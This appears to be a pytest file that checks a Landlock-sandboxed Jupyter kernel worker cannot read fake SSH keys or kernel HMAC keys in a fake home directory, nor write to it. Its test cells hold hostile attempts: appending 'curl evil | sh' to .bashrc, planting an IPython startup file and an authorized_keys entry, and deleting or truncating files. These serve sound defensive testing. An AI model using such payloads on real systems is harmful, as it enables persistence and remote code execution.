"""A worker started where Jupyter Server starts a kernel: in the user's home. The working directory then
holds SSH keys, shell start-up files, the Jupyter runtime directory with every kernel's connection file
(its HMAC key) and IPython's startup directory. Whatever the policy says (here: a files policy, as if the
kernel had forgotten to turn files off), the worker gets no right on that directory: it works in a
private empty directory instead. Cells run as plain Python in the worker (RogueEngine), at every
Landlock ABI. The same cells succeed at level `process` (test_breach_controls.py)."""
import os

import pytest

from isolation_support import Run, breach_worker, kernel_level_problem, rogue_policy

PROBLEM = kernel_level_problem()
pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"kernel level unavailable: {PROBLEM}")

if PROBLEM is None:
    from sandbox_kernel.isolation import landlock

    HOST_ABI = landlock.abi_version()
else:
    HOST_ABI = 0

HOST_ENV = ("HOME", "JUPYTER_RUNTIME_DIR", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "IPYTHONDIR")


def make_fake_home(root):
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY----- FAKE-SSH-KEY")
    runtime = home / ".local" / "share" / "jupyter" / "runtime"
    runtime.mkdir(parents=True)
    (runtime / "kernel-1234.json").write_text('{"key": "FAKE-HMAC-KEY", "transport": "tcp"}')
    (home / ".bashrc").write_text("# original bashrc\n")
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (home / "notes.txt").write_text("a note\n")
    return home, runtime


def snapshot(home):
    return {str(p.relative_to(home)): (p.read_bytes() if p.is_file() else None, p.stat().st_mode)
            for p in sorted(home.rglob("*"))}


@pytest.fixture(scope="module")
def fake_home(tmp_path_factory):
    home, runtime = make_fake_home(tmp_path_factory.mktemp("fakehome"))
    return home, runtime


@pytest.fixture(scope="module", params=list(range(1, HOST_ABI + 1)), ids=lambda a: f"abi{a}")
def home_worker(request, fake_home):
    """A kernel-level worker whose working directory is the (fake) home, started the way Jupyter
    starts kernels: HOME and JUPYTER_RUNTIME_DIR point there on the host side."""
    home, runtime = fake_home
    saved = {k: os.environ.get(k) for k in HOST_ENV}
    os.environ.update({"HOME": str(home), "JUPYTER_RUNTIME_DIR": str(runtime)})
    for k in ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "IPYTHONDIR"):
        os.environ.pop(k, None)
    try:
        b = breach_worker("kernel", rogue_policy(limits={"memory_mb": 512, "timeout": 10.0}), home,
                          landlock_abi=request.param)
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    b.abi = request.param
    assert b.status()["worker"]["state"] == "ready", b.status()
    yield b
    b.shutdown()


def test_the_worker_gets_no_right_on_a_hazardous_workdir(home_worker, fake_home):
    home, _ = fake_home
    layers = home_worker.status()["os_layers"]
    assert layers["workdir"]["files_in_workdir"] is False
    writable = layers["details"]["landlock"]["writable"]
    assert len(writable) == 1 and os.path.basename(writable[0]).startswith("sandbox-worker-")
    assert not writable[0].startswith(str(home))
    r = Run(home_worker, "(os.getcwd(), os.environ['HOME'], os.environ['TMPDIR'], os.listdir('.'))")
    assert r.ok and r.text() == repr((writable[0], writable[0], writable[0], [])), r.text()


def test_secrets_in_home_cannot_be_read(home_worker, fake_home):
    home, runtime = fake_home
    for path in (home / ".ssh" / "id_rsa", runtime / "kernel-1234.json", home / ".bashrc", home / "notes.txt"):
        r = Run(home_worker, f"open({str(path)!r}).read()")
        assert not r.ok
        assert "FAKE-" not in str(r.events)
    for directory in (home, home / ".ssh", runtime):
        r = Run(home_worker, f"os.listdir({str(directory)!r})")
        assert not r.ok and "kernel-1234" not in str(r.events) and "id_rsa" not in str(r.events)


def test_nothing_in_home_can_be_written(home_worker, fake_home):
    home, runtime = fake_home
    before = snapshot(home)
    startup = home / ".ipython" / "profile_default" / "startup" / "00-pwned.py"
    for cell in (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n')",
                 f"open({str(startup)!r}, 'w').write('import os')",
                 f"open({str(home / '.ssh' / 'authorized_keys')!r}, 'w').write('ssh-rsa AAAA')",
                 f"open({str(runtime / 'kernel-9999.json')!r}, 'w').write('{{}}')",
                 f"os.chmod({str(home / '.ssh' / 'id_rsa')!r}, 0o644)",
                 f"os.truncate({str(home / 'notes.txt')!r}, 0)",
                 f"os.rename({str(home / 'notes.txt')!r}, 'notes.txt')",
                 f"os.unlink({str(runtime / 'kernel-1234.json')!r})"):
        r = Run(home_worker, cell)
        assert not r.ok, cell
    assert snapshot(home) == before


def test_the_private_directory_works_and_is_removed_with_the_worker(home_worker):
    r = Run(home_worker, "open('scratch.txt', 'w').write('x')\nimport tempfile\n"
                         "tempfile.NamedTemporaryFile().name.startswith(os.getcwd())")
    assert r.ok and r.text() == "True", r.error
    scratch = home_worker.status()["os_layers"]["details"]["landlock"]["writable"][0]
    assert os.path.exists(os.path.join(scratch, "scratch.txt"))
    home_worker.shutdown()
    import gc

    gc.collect()
    assert not os.path.exists(scratch)
